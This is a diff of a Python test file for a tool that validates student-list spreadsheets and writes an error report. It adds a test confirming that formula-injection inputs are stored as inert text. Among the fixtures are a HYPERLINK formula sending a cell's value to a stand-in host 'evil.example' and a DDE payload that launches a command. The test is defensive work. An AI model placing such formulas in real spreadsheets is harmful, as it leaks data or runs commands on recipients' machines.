@@ -282,7 +282,36 @@ def test_report_marks_cells_and_lists_every_error(tmp_path):
     assert ws["O3"].fill.fgColor.rgb.endswith("FFC7CE")
     assert ws["A2"].value == "100001" and ws["O2"].comment is None
     assert [[c.value for c in r] for r in wb["Fouten"].iter_rows(min_row=2)] == [
-        [3, "Klas", "O3", "required", "Klas is verplicht."], [None, None, None, "x", "Los."]]
+        [3, "Klas", "Klas is verplicht.", "required"], [None, None, "Los.", "x"]]
+    # the template's formatting is kept: text identifiers, drop-downs, instructions
+    assert wb.sheetnames == ["Leerlingen", "Fouten", "Instructies"]
+    assert ws.column_dimensions["A"].number_format == "@"
+    assert ws.column_dimensions["B"].number_format == "@"
+    assert ws["A1"].comment is not None and ws.freeze_panes == "A2"
+    assert any('"M,V,X"' == dv.formula1 for dv in ws.data_validations.dataValidation)
+    assert ws.column_dimensions["E"].width >= 16
+
+
+def test_report_never_writes_a_formula_and_keeps_legitimate_values(tmp_path):
+    titles = TITLES
+    hostile = {"Voornaam": '=HYPERLINK("http://evil.example/?x="&A2,"klik")',
+               "Achternaam": "=cmd|' /C calc'!A0", "Tussenvoegsel": "@SUM(1+1)",
+               "Straat": "+31 6 1234", "Woonplaats": "-2+3", "Huisnummer": "-"}
+    path = tmp_path / "lijst.xlsx"
+    path.write_bytes(xf.make_list([{**xf.student_row(1), **hostile}]))
+    data = report.build_report(validate.read_cells(path, "Leerlingen"), [])
+    ws = load_workbook(io.BytesIO(data))["Leerlingen"]
+    by_title = {titles[i]: cell for i, cell in enumerate(ws[2]) if i < len(titles)}
+    for title, text in hostile.items():
+        cell = by_title[title]
+        assert cell.value == text and cell.data_type == "s", (title, cell.data_type)
+        assert cell.quotePrefix == (text != "-"), title
+    assert by_title["Geboortedatum"].is_date
+    # the report read back (as a school sends it again) gives the same values
+    (tmp_path / "rapport.xlsx").write_bytes(data)
+    back = dict(zip(titles, next(r for n, r in validate.read_cells(tmp_path / "rapport.xlsx",
+                                                                   "Leerlingen") if n == 2)))
+    assert {t: back[t] for t in hostile} == hostile
 
 
 def test_row_limit_also_holds_while_parsing(tmp_path):
